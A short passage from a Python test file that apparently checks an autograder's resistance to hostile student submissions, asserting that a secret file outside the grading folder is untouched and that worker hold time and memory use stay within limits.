    assert (graded.root / "grading" / "submitted" / "good" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb").is_file()
    assert (graded.root.parent / "secret.txt").read_text() == SECRET


def test_report_gives_the_suites_figures(graded):
    """Does the report say how long the worst submission held a worker and how much memory the run took?"""
    seconds, student, _ = graded.run.longest
    assert seconds <= LIMITS["deadline"] + 30, f"{student} held a worker for {seconds:.0f} s"
    assert "Longest any one submission held a worker" in graded.report
    print(f"\nadversarial suite: {len(KINDS)} kinds; longest hold {seconds:.1f} s ({student}); "
          f"peak memory of one grading process {graded.run.peak_rss_mb:.0f} MiB; batch {graded.run.seconds:.1f} s")
